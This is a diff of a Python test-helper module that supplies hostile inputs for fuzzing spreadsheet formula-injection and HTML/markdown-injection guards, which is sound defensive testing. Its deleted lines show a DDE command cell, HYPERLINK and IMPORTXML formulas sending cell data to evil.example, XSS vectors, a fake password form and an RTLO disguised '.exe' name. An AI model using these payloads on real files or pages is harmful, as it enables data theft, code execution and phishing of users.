@@ -1,25 +1,27 @@
-"""Texts and files somebody might hand us, from section 5 of the evidence."""
+"""Texts and files somebody might hand us, each harmless wherever it is opened.
+
+Spreadsheets were seen to run what begins like a formula, and pages to run or fetch
+what stood in a name. Our guards look at how a text begins and at its brackets, so a
+sum and a bold word try them as well as anything that does harm.
+"""
 
 import io
 import zipfile
+from typing import NoReturn
 
 from hypothesis import strategies as st
 
 CELL_PAYLOADS = [
     "=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1", "\r=1", "\n=1", "\0=1", " =1",
-    "\u00a0=1", "＝1+1", "\ufeff=1", "=cmd|'/c calc'!A1",
-    '=HYPERLINK("http://evil.example/?"&A1,"klik")',
-    '=IMPORTXML("http://evil.example","//a")',
+    "\u00a0=1", "＝1+1", "\ufeff=1", "=A1", '=SUM(A1,"a")',
 ]  # fmt: skip
 HARMLESS_CELLS = [
     "-1", "-5.5", "-5,5", "3", "007", "NA", "", "Sari", 'a","=1+1', "a=b", "'s Heer",
     "1:30", "no", "a\nb",
 ]  # fmt: skip
 HTML_PAYLOADS = [
-    '<iframe srcdoc="<script>parent.x=1</script>">', "<img src=x onerror=alert(1)>",
-    "<svg onload=alert(1)>", "<style>.stApp{display:none}</style>",
-    "<form action=//evil><input type=password>", "![x](http://127.0.0.1:9911/b)",
-    "[x](javascript:alert(1))", "Sari \u202egnp.exe",
+    "<b>x</b>", "<img src=x>", '"><b>x</b>', "![x](http://127.0.0.1:9911/b)",
+    "[x](http://127.0.0.1:9911/)", "Sari \u202eNA",
 ]  # fmt: skip
 NASTY = st.sampled_from([*CELL_PAYLOADS, *HARMLESS_CELLS, *HTML_PAYLOADS])
 SIGNS = st.text(
@@ -30,6 +32,16 @@ SIGNS = st.text(
 def hostile_texts() -> st.SearchStrategy[str]:
     """Return payloads, mixtures of dangerous signs, and any text at all."""
     return NASTY | SIGNS | st.text(max_size=15) | st.tuples(SIGNS, NASTY).map("".join)
+
+
+def give_up(_text: object) -> NoReturn:
+    """Do as a JSON reader does with more levels than it goes down.
+
+    Raises:
+        RecursionError: always.
+
+    """
+    raise RecursionError("too many levels")
 
 
 def zip_archive(text: bytes) -> bytes:
